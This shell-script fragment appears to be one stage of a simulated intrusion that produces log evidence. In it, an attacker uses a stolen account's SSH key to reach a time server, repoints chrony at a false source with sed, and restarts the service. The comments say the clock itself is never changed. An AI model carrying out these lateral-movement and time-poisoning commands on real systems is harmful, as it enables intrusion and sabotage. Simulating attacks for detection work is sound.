# The time server is told to follow a clock outside that is 350 ms wrong. chronyd runs with -x everywhere: the false time
# reaches its logs and its NTP answers, never a clock.

begin_stage time-source 8 hts-time1 "$THIEF" "$STOLEN_ACCOUNT" 'The time source is replaced by a false one'
{
  sleep 1.5
  PACE=2 say "sudo ssh -i /home/$STOLEN_ACCOUNT/.ssh/id_ed25519 $STOLEN_ACCOUNT@$TIME" \
    jump1:audit "a0=\"ssh\" a1=\"-i\" a2=\"/home/$STOLEN_ACCOUNT/.ssh/id_ed25519\" a3=\"$STOLEN_ACCOUNT@$TIME\""
  say "sudo sed -i s/10.20.0.40/$FALSE_TIME/ /etc/chrony/chrony.conf" \
    time1:auth "COMMAND=/usr/bin/sed -i s/10.20.0.40/$FALSE_TIME/ /etc/chrony/chrony.conf" \
    time1:audit "a0=\"sed\" a1=\"-i\" a2=\"s/10.20.0.40/$FALSE_TIME/\" a3=\"/etc/chrony/chrony.conf\""
  PACE=16 say 'sudo service chrony restart' time1:auth 'COMMAND=/usr/sbin/service chrony restart' \
    time1:syslog "Selected source $FALSE_TIME" time1:tracking " $FALSE_TIME " time1:measurements " $FALSE_TIME " \
    time1:statistics " $FALSE_TIME " time1:tshark '"ntp_stratum":["2"],"ntp_refid":["cb00717b"]'
  PACE=4 say 'chronyc -n sources' time1:audit 'a0="chronyc" a1="-n" a2="sources"'
  hush exit
  hush exit
} | from_outside "$THIEF" "$NEW_ACCOUNT" "$NEW_PASSWORD" "$JUMP" || true
end_stage
